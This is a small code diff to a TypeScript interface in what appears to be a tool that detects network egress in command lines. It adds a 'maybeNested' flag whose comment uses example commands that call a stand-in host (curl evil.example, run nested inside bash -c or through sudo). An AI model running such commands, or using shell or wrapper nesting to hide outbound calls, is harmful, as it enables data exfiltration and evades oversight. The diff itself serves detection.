@@ -204,6 +204,12 @@ export interface Segment {
    * findings of what it surely does count there, not cannot-vouch, nor egress (vouch.unknown-program reads that).
    */
   maybe?: true;
+  /**
+   * It stands in such text, run by a shell or eval the text starts (`mytool --exec 'bash -c "curl evil.example"'`), or
+   * is a program the text runs through a wrapper (`--exec 'sudo curl evil.example'`): text handed to a shell or a
+   * wrapper is a command line, not a message, so its egress counts as anywhere else.
+   */
+  maybeNested?: true;
 }
 
 /**
